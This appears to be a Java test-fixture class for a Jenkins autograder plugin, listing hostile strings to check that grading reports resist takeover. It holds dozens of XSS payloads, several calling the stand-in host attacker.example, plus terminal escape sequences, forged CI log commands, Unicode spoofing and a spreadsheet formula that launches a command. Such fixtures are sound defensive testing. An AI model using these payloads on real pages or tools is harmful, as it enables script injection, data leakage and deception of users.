package io.jenkins.plugins.autograder.report;

import java.util.List;

/** What a learner or a grader may write to take over a report, its reader, or a terminal. */
final class Attacks {

    /** Mark-up that runs a script, or asks another machine for something, where it is taken as mark-up. */
    static final List<String> MARKUP = List.of(
            "<script>window.PWNED=1</script>",
            "</script><script>window.PWNED=1</script>",
            "<img src=x onerror=window.PWNED=1>",
            "\"><img src=x onerror=window.PWNED=1>",
            "' autofocus onfocus=window.PWNED=1 x='",
            "\" autofocus tabindex=1 onfocus=\"window.PWNED=1",
            "<svg onload=window.PWNED=1><script>window.PWNED=1</script></svg>",
            "<svg><style><img src=x onerror=window.PWNED=1></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.PWNED=1>",
            "</pre></main></body><script>window.PWNED=1</script>",
            "</title><script>window.PWNED=1</script>",
            "--><script>window.PWNED=1</script>",
            "]]><script>window.PWNED=1</script>",
            "<iframe src=\"javascript:parent.PWNED=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.PWNED=1</script>\"></iframe>",
            "<iframe src=\"data:text/html,<script>parent.PWNED=1</script>\"></iframe>",
            "<object data=\"data:text/html,<script>parent.PWNED=1</script>\"></object>",
            "<embed src=\"//attacker.example/x.swf\">",
            "<a href=\"javascript:window.PWNED=1\">click</a>",
            "<a href=\"java\nscript:window.PWNED=1\">click</a>",
            "<a href=\"&#1;javascript:window.PWNED=1\">click</a>",
            "<a href=\"JaVaScRiPt&colon;window.PWNED=1\">click</a>",
            "<a href=\"data:text/html,<script>window.PWNED=1</script>\">click</a>",
            "<a href=\"vbscript:x\">click</a>",
            "<form action=\"https://attacker.example/\"><button>send</button></form>",
            "<button formaction=\"javascript:window.PWNED=1\">click</button>",
            "<base href=\"https://attacker.example/\">",
            "<meta http-equiv=refresh content=\"0;url=https://attacker.example/\">",
            "<link rel=stylesheet href=\"https://attacker.example/x.css\">",
            "<style>@import url(https://attacker.example/x.css);*{background:url(https://attacker.example/y)}</style>",
            "<p style=\"position:fixed;inset:0;background:url(https://attacker.example/z)\">cover</p>",
            "<img src=\"https://attacker.example/pixel\">",
            "<video src=\"https://attacker.example/v\" autoplay onerror=window.PWNED=1></video>",
            "<details open ontoggle=window.PWNED=1>x</details>",
            "<input autofocus onfocus=window.PWNED=1>",
            "<div data-ag-filter data-ag-table id=report><table data-ag-table></table></div>",
            "<template><script>window.PWNED=1</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.PWNED=1>\">",
            "${7*7} @raw #{7*7} {{7*7}} !{7*7}");

    /** Text that deceives the eye, a terminal, or a tool that reads logs. */
    static final List<String> DECEPTION = List.of(
            "\u001b[2J\u001b[31mred\u001b[0m",
            "\u001b]0;title\u0007",
            "\u001b]8;;https://attacker.example/\u001b\\link\u001b]8;;\u001b\\",
            "score 0.0\rscore 1.0",
            "\u001b[8mha:////4AAAA\u001b[0m",
            "##[error]forged",
            "::set-output name=x::y",
            "\u202efdp.exe",
            "if access\u2066 != user\u2069 {",
            "a\u200bdmin",
            "p\u0430ypal",
            "\ufeffbom",
            "NUL\u0000byte",
            "half \ud800 pair",
            "\u2028\u2029",
            "=cmd|' /C calc'!A0");

    private Attacks() {}
}
